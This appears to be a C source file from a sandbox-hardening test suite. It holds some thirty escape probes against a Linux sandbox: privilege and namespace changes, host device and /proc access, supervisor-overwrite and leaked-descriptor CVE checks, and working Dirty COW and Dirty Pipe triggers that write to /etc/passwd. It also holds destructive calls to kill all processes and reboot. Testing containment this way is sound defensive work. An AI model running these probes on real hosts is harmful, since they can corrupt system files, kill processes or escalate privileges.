// Ways out through the kernel: privileges, namespaces, other processes, and calls that kernels were broken through.
#include "probe.h"
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define ATTACK(name) static int name(int argc, char **argv)
#define UNUSED (void)argc, (void)argv

ATTACK(capabilities) {
    UNUSED;
    struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct data[2];
    memset(data, 0, sizeof data);
    if (syscall(SYS_capget, &header, data) < 0)
        return 1;
    for (int capability = 0; capability < 64; capability++)
        if (prctl(PR_CAPBSET_READ, capability, 0, 0, 0) == 1)
            return escaped("the bounding set is not empty");
    if (data[0].effective | data[0].permitted | data[0].inheritable | data[1].effective | data[1].permitted | data[1].inheritable)
        return escaped("the process has capabilities");
    return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 1 && prctl(PR_GET_SECCOMP, 0, 0, 0, 0) == 2 ? CONTAINED : escaped("new privileges, or no filter");
}

ATTACK(become_root) {
    UNUSED;
    if (setuid(0) == 0 || setgid(0) == 0 || setresuid(0, 0, 0) == 0 || setgroups(0, NULL) == 0)
        return escaped("became root");
    return stopped("setuid");
}

ATTACK(new_namespace) {
    UNUSED;
    int kinds[] = { CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET, CLONE_NEWIPC, CLONE_NEWUTS };
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        if (unshare(kinds[i]) == 0)
            return escaped("unshare made a namespace");
        long child = syscall(SYS_clone, kinds[i] | SIGCHLD, NULL, NULL, NULL, NULL);
        if (child == 0)
            _exit(0);
        if (child > 0)
            return escaped("clone made a namespace");
    }
    return stopped("unshare, clone");
}

ATTACK(join_namespace) {
    UNUSED;
    const char *names[] = { "mnt", "pid", "net", "user", "ipc" };
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/1/ns/%s", names[i]);
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && setns(fd, 0) == 0)
            return escaped(path);
    }
    return stopped("setns");
}

ATTACK(mounts) {
    UNUSED;
    if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0 || mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 || mount("/dev/vda", "/tmp", "ext4", 0, NULL) == 0)
        return escaped("mounted");
    if (syscall(SYS_fsopen, "tmpfs", 0) >= 0 || syscall(SYS_open_tree, AT_FDCWD, "/", 1) >= 0 || umount2("/proc", MNT_DETACH) == 0)
        return escaped("changed mounts");
    return stopped("mount");
}

ATTACK(change_root) {
    UNUSED;
    return chroot("/tmp") == 0 ? escaped("chroot") : stopped("chroot");
}

ATTACK(handle) {
    UNUSED;
    // The way of a container with CAP_DAC_READ_SEARCH: inode 2 of the host's disk by its number.
    struct { struct file_handle handle; unsigned char bytes[8]; } root = { { .handle_bytes = 8, .handle_type = 1 }, { 2, 0, 0, 0, 0, 0, 0, 0 } };
    int at = open("/", O_RDONLY);
    int fd = (int)syscall(SYS_open_by_handle_at, at, &root, O_RDONLY);
    return fd >= 0 ? escaped("opened the host's disk by an inode's number") : stopped("open_by_handle_at");
}

ATTACK(module) {
    UNUSED;
    char image[64] = "\177ELF";
    if (syscall(SYS_init_module, image, sizeof image, "") == 0 || errno == ENOEXEC)
        return escaped("the kernel looked at a module");
    return stopped("init_module");
}

ATTACK(ebpf) {
    UNUSED;
    char attributes[128] = { 2, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1 }; // an array of one
    return syscall(SYS_bpf, 0, attributes, sizeof attributes) >= 0 ? escaped("made an eBPF map") : stopped("bpf");
}

static int denied_call(const char *name, long result) { return result >= 0 ? escaped(name) : errno == EPERM || errno == ENOSYS || errno == EACCES ? stopped(name) : escaped(name); }

ATTACK(perf) { UNUSED; char attributes[112] = { 1, 0, 0, 0, 112 }; return denied_call("perf_event_open", syscall(SYS_perf_event_open, attributes, 0, -1, -1, 0)); }
ATTACK(ring) { UNUSED; char parameters[120] = { 0 }; return denied_call("io_uring_setup", syscall(SYS_io_uring_setup, 4, parameters)); }
ATTACK(fault) { UNUSED; return denied_call("userfaultfd", syscall(SYS_userfaultfd, 1)); }
ATTACK(key) { UNUSED; return denied_call("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3)); }
ATTACK(kernel_log) { UNUSED; char text[64]; return denied_call("syslog", syscall(SYS_syslog, 3, text, sizeof text)); }
ATTACK(restart) { UNUSED; return denied_call("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x89abcdef /* no ctrl-alt-del */, NULL)); }
ATTACK(set_clock) { UNUSED; long time[2] = { 1, 0 }; return denied_call("clock_settime", syscall(SYS_clock_settime, 0, time)); }
ATTACK(unknown_call) { UNUSED; return denied_call("an unknown call", syscall(1000)); }

ATTACK(old_calls) {
    UNUSED;
#if defined(__x86_64__)
    // 32-bit numbers: 20 is getpid there. The filter ends whoever tries.
    pid_t child = fork();
    if (child == 0) {
        long result;
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory");
        _exit(result > 0 ? 7 : 8);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 7)
        return escaped("32-bit calls pass the filter by");
#endif
    return CONTAINED;
}

ATTACK(devices) {
    UNUSED;
    const char *found[] = { "/dev/mem", "/dev/kmem", "/dev/port", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/kmsg", "/dev/loop-control", "/proc/kcore" };
    for (size_t i = 0; i < sizeof found / sizeof *found; i++)
        if (open(found[i], O_RDONLY) >= 0)
            return escaped(found[i]);
    if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0)) == 0 || mknod("/tmp/memory", S_IFCHR | 0600, makedev(1, 1)) == 0)
        return escaped("made a device");
    return stopped("mknod");
}

ATTACK(settings) {
    UNUSED;
    // core_pattern and release_agent are programs that the kernel starts on the host.
    const char *files[] = { "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/rdma/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max" };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        if (open(files[i], O_WRONLY) >= 0)
            return escaped(files[i]);
    return stopped("/proc/sys, /sys");
}

ATTACK(supervisor) {
    UNUSED;
    const char *files[] = { "/proc/1/mem", "/proc/1/environ", "/proc/1/maps", "/proc/1/exe", "/proc/1/root/etc/passwd", "/proc/1/cwd/etc/passwd", "/proc/1/fd/200", "/proc/1/fd/0", "/proc/1/stack" };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        char text[16];
        int fd = open(files[i], O_RDONLY | O_NONBLOCK);
        if (fd >= 0 && (read(fd, text, sizeof text) >= 0 || strstr(files[i], "/fd/")))
            return escaped(files[i]);
    }
    if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0 || ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) == 0)
        return escaped("traced the supervisor");
    return stopped("/proc/1, ptrace");
}

// CVE-2019-5736: whoever can write to the program that starts others runs on the host.
ATTACK(overwrite_starter) {
    UNUSED;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", (int)getppid());
    if (open(path, O_WRONLY) >= 0 || open("/proc/1/exe", O_WRONLY) >= 0 || open("/.sandbox/supervisor", O_WRONLY) >= 0 || unlink("/.sandbox/supervisor") == 0)
        return escaped("could write to the supervisor's program");
    return stopped("/proc/1/exe");
}

// CVE-2024-21626: a folder of the host that was left open.
ATTACK(leaked_files) {
    UNUSED;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            return escaped("a file was left open");
    char path[4096];
    if (!getcwd(path, sizeof path) || path[0] != '/')
        return escaped("the working directory lies outside");
    return CONTAINED;
}

ATTACK(kill_supervisor) {
    UNUSED;
    for (int number = 1; number < 32; number++)
        kill(1, number);
    kill(getppid(), SIGKILL);
    return stopped("kill"); // whether it lives shows in the sandbox's next run
}

ATTACK(kill_everything) {
    UNUSED;
    kill(-1, SIGKILL);
    return CONTAINED;
}

ATTACK(host_processes) {
    UNUSED;
    char text[4096] = "";
    for (int pid = 1, count = 0; pid < 100000; pid++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        if (access(path, F_OK) == 0 && ++count > 12)
            return escaped("sees the processes of the host");
    }
    int fd = open("/proc/1/cmdline", O_RDONLY);
    return fd >= 0 && read(fd, text, sizeof text - 1) > 0 && !strstr(text, "supervisor") ? escaped("process 1 is the host's") : CONTAINED;
}

// Dirty COW: a write to a private copy of a read-only file races with its being thrown away.
static void *volatile shared_map;
static int dirty_cow_try(const char *path) {
    int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char before = 0, after = 0;
    if (fd < 0 || pread(fd, &before, 1, 0) != 1)
        return 0;
    shared_map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    char other = (char)(before ^ 1);
    pid_t child = fork();
    if (child == 0)
        for (;;)
            madvise(shared_map, 4096, MADV_DONTNEED);
    for (int i = 0; memory >= 0 && i < 2000; i++)
        if (pwrite(memory, &other, 1, (off_t)(size_t)shared_map) < 0)
            break;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return pread(fd, &after, 1, 0) == 1 && after != before;
}

ATTACK(dirty_cow) { UNUSED; return dirty_cow_try("/etc/passwd") ? escaped("wrote to a read-only file") : stopped("/proc/self/mem"); }

// Dirty Pipe: a page of a file in a pipe takes what is written to the pipe.
ATTACK(dirty_pipe) {
    UNUSED;
    int ends[2], fd = open("/etc/passwd", O_RDONLY);
    char before[16] = "", after[16] = "", chunk[4096];
    if (fd < 0 || pipe(ends) < 0 || pread(fd, before, 8, 0) != 8)
        return 1;
    memset(chunk, 'x', sizeof chunk);
    for (int i = 0; i < 16 && write(ends[1], chunk, sizeof chunk) > 0; i++) { }
    for (int i = 0; i < 16 && read(ends[0], chunk, sizeof chunk) > 0; i++) { }
    loff_t offset = 0;
    if (splice(fd, &offset, ends[1], NULL, 1, 0) < 0 || write(ends[1], "~~~~", 4) < 0)
        return stopped("splice");
    return pread(fd, after, 8, 0) == 8 && memcmp(before, after, 8) != 0 ? escaped("wrote to a read-only file") : CONTAINED;
}

const struct command kernel_commands[] = {
    { "capabilities", capabilities }, { "become-root", become_root }, { "new-namespace", new_namespace }, { "join-namespace", join_namespace }, { "mount", mounts },
    { "chroot", change_root }, { "file-handle", handle }, { "kernel-module", module }, { "ebpf", ebpf }, { "perf", perf }, { "io-uring", ring }, { "userfaultfd", fault },
    { "keyring", key }, { "kernel-log", kernel_log }, { "reboot", restart }, { "set-clock", set_clock }, { "unknown-call", unknown_call }, { "32-bit-calls", old_calls },
    { "devices", devices }, { "kernel-settings", settings }, { "supervisor", supervisor }, { "overwrite-starter", overwrite_starter }, { "leaked-files", leaked_files },
    { "kill-supervisor", kill_supervisor }, { "kill-everything", kill_everything }, { "host-processes", host_processes }, { "dirty-cow", dirty_cow }, { "dirty-pipe", dirty_pipe }, { NULL, NULL },
};
